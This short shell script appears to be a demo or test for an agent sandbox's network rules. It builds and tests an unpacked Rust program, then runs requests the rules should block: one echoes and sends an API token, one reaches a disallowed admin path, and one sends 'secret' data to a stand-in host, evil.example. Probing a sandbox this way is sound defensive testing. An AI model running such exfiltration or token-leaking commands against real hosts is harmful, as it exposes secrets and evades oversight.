# What an agent might do. It runs inside the sandbox; a tar archive of the program comes on its standard input.
say() { printf '\n-- %s\n' "$*"; }

say "1. unpack a program, build it, run its tests"
tar -x
cd program
cargo test --offline --quiet
cargo run --offline --quiet -- src/main.rs > target/demo-report.txt
cat target/demo-report.txt

say "2. fetch with a token that this sandbox does not have"
echo "API_TOKEN here is $API_TOKEN"
curl --silent --show-error --header "Authorization: Bearer $API_TOKEN" "https://api.example.com:$PORT/v1/models"
echo

say "3. a path that no rule allows"
curl --silent --show-error "https://api.example.com:$PORT/admin"
echo

say "4. a host that no rule names"
curl --silent --show-error "https://evil.example/collect?data=secret"
echo "curl ended with $?"
